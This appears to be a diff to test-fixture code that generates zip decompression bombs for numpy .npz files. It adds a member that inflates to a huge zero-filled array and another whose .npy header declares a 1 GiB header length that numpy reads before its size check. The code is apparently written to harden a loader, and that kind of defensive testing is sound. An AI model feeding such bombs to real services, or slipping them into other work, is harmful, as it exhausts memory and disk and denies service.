@@ -63,27 +63,37 @@ def set_compression_method(data: bytes, method: int) -> bytes:
 
 def deflate_bomb(name: str, shape: tuple[int, ...], descr: str = "<f4") -> bytes:
     """One deflated member: a header declaring ``shape`` followed by that many zero bytes, honestly listed
-    in the zip (size and CRC), built without ever holding the inflated payload: a run of zeros is deflated
-    once per MiB with a full flush, so every MiB after the first compresses to the same bytes."""
+    in the zip (size and CRC), built without ever holding the inflated payload."""
     header = npy_header(shape, descr)
-    total = int(np.prod(shape)) * np.dtype(descr).itemsize
+    return zero_run_member(name, header, int(np.prod(shape)) * np.dtype(descr).itemsize)
+
+
+def header_length_bomb(name: str, declared: int = 2**30) -> bytes:
+    """One deflated member whose version 2.0 ``.npy`` header declares a header of ``declared`` bytes (numpy
+    reads all of them before its own size check), followed by that many zero bytes."""
+    return zero_run_member(name, npy_format.magic(2, 0) + struct.pack("<I", declared), declared)
+
+
+def zero_run_member(name: str, prefix: bytes, zeros: int) -> bytes:
+    """A one-member zip holding ``prefix`` and ``zeros`` zero bytes, deflated once per MiB with a full
+    flush (every MiB after the first compresses to the same bytes), so the inflated member is never held."""
     mib = 1 << 20
+    assert len(prefix) + zeros >= mib, "a bomb inflates to at least 1 MiB"
     compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
-    first = compressor.compress(header + bytes(mib - len(header))) + compressor.flush(zlib.Z_FULL_FLUSH)
+    first = compressor.compress(prefix + bytes(mib - len(prefix))) + compressor.flush(zlib.Z_FULL_FLUSH)
     middle = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_FULL_FLUSH)
     again = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_FULL_FLUSH)
     assert middle == again, "deflate of a zero MiB after a full flush is not repeatable"
-    assert len(header) + total >= mib, "a bomb inflates to at least 1 MiB"
-    full, tail = divmod(len(header) + total - mib, mib)
+    full, tail = divmod(len(prefix) + zeros - mib, mib)
     stream = first + middle * full + compressor.compress(bytes(tail)) + compressor.flush()
     zero_mib = bytes(mib)
-    crc = zlib.crc32(bytes(mib - len(header)), zlib.crc32(header))
+    crc = zlib.crc32(bytes(mib - len(prefix)), zlib.crc32(prefix))
     for _ in range(full):
         crc = zlib.crc32(zero_mib, crc)
     crc = zlib.crc32(bytes(tail), crc)
     info = zipfile.ZipInfo(f"{name}.npy", date_time=FIXED_TIME)
     info.compress_type = zipfile.ZIP_DEFLATED
-    info.file_size, info.compress_size, info.CRC = len(header) + total, len(stream), crc
+    info.file_size, info.compress_size, info.CRC = len(prefix) + zeros, len(stream), crc
     return _raw_zip(info, stream)
 
 
